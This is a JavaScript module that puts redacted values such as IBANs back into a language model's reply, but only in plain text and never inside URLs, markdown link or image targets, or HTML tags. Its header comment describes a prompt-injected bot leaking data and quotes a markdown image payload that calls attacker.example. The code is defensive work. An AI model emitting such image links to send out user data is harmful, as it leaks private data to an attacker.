// Restoring a model's reply safely: real values go back only into plain text, never
// into what the browser would fetch or interpret when a widget renders the reply as
// markdown or HTML — a URL, a markdown link or image target, a link reference, an
// HTML tag and its attributes. A prompt-injected bot answering
// `![x](https://attacker.example/?d=[IBAN_1])` keeps `[IBAN_1]` in the URL, so the
// browser never sends the IBAN. Pure functions over a `restore(text)` passed in.

// A placeholder as a model writes it in angle style: `<IBAN_1>` is not a tag.
const ANGLE_PH = '<[A-Z]+(?:_[A-Z0-9]+)+>';
/** Spans where a placeholder is left as it is. */
const UNSAFE = new RegExp([
  '\\]\\([^)\\n]*\\)?', // markdown link or image target: ](url "title")
  '^[ \\t]{0,3}\\[[^\\]\\n]+\\]:[^\\n]*', // link reference definition: [id]: url
  '<\\/?[A-Za-z][A-Za-z0-9-]*(?:\\s[^<>]*)?\\/?>', // an HTML tag with its attributes
  '<(?:[a-z][a-z0-9+.-]*:|www\\.)[^<>\\s]*>', // autolink <https://…>
  '(?:\\b[a-z][a-z0-9+.-]*:\\/\\/|\\bwww\\.|\\b(?:mailto|data|javascript|tel|sms|blob):)(?:[^\\s<>"\'`]|' + ANGLE_PH + ')*', // bare URL
].join('|'), 'gim');

/**
 * The pieces of `text`: `{ text, safe }`, where `safe` is false for a URL, a markdown
 * link target, a link reference or an HTML tag.
 */
export function splitUnsafe(text) {
  const out = [];
  let last = 0;
  UNSAFE.lastIndex = 0;
  for (let m = UNSAFE.exec(text); m; m = UNSAFE.exec(text)) {
    if (!m[0].length) { UNSAFE.lastIndex++; continue; }
    if (m.index > last) out.push({ text: text.slice(last, m.index), safe: true });
    out.push({ text: m[0], safe: false });
    last = m.index + m[0].length;
  }
  if (last < text.length) out.push({ text: text.slice(last), safe: true });
  return out;
}

/** `text` with `restore` applied to its plain-text pieces only. */
export function restorePlain(text, restore) {
  let out = '';
  for (const p of splitUnsafe(text)) out += p.safe ? restore(p.text) : p.text;
  return out;
}

/** Beyond this many held characters a stream gives up waiting and passes text on unrestored. */
export const MAX_HELD = 16384;

/**
 * Where a streamed text can be cut so that no URL, link target or tag is split: after
 * the last whitespace outside brackets (`[ ( { <`), or 0 when there is none.
 */
export function safeCut(text) {
  let depth = 0, cut = 0;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (c === '[' || c === '(' || c === '{' || c === '<') depth++;
    else if ((c === ']' || c === ')' || c === '}' || c === '>') && depth) depth--;
    else if (!depth && (c === ' ' || c === '\n' || c === '\t' || c === '\r')) cut = i + 1;
  }
  return cut;
}

/**
 * A push/finish restorer for text that arrives in pieces: text is classified once it
 * can be cut safely (safeCut); plain runs go through a chunk-wise restorer made by
 * `makeRestorer()` (a placeholder or a multi-word surrogate split across pieces is
 * still restored), which is finished before each URL, link target or tag; those pass
 * as they are.
 * @param {() => { push(s: string): string, finish(): string }} makeRestorer
 */
export function plainRestorer(makeRestorer) {
  let held = '';
  let r = null;
  const endRun = () => {
    if (!r) return '';
    const out = r.finish();
    r = null;
    return out;
  };
  const emit = (text) => {
    let out = '';
    for (const p of splitUnsafe(text)) {
      if (p.safe) { if (!r) r = makeRestorer(); out += r.push(p.text); } else out += endRun() + p.text;
    }
    return out;
  };
  return {
    push(chunk) {
      held += chunk;
      const cut = safeCut(held);
      if (!cut && held.length > MAX_HELD) {
        // no safe place to cut: pass the text on with its placeholders left in place
        const out = endRun() + held;
        held = '';
        return out;
      }
      const out = cut ? emit(held.slice(0, cut)) : '';
      held = held.slice(cut);
      return out;
    },
    finish() {
      const out = emit(held) + endRun();
      held = '';
      return out;
    },
    /** Characters held back right now (waiting for a safe cut, or a possible placeholder). */
    get buffered() { return held.length + (r ? r.buffered : 0); },
  };
}
